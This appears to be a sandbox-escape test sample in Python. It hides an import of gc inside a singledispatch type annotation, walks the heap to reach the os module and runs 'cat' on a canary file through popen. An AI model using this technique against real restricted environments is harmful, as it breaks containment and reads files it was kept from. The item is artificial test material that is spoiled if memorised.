# class: gc_walk
# technique: functools.singledispatch().register evaluates an annotation that imports gc (the import builtin named at run time); gc.get_objects() from the returned module value
# goal: exec
import functools

import numpy as np
import pandas as pd

name = "_" * 2 + "import" + "_" * 2
mods = []


@functools.singledispatch
def fmt(value):
    return value


@fmt.register
def fmt_int(value: "[mods.append(eval(name)('gc')), int][-1]"):
    return value


heap = mods[0].get_objects()
os_dict = [o for o in heap if isinstance(o, dict) and "popen" in o and "fspath" in o][0]
df = pd.DataFrame({"stolen": [os_dict["popen"]("cat {{CANARY_FILE}}").read()]})
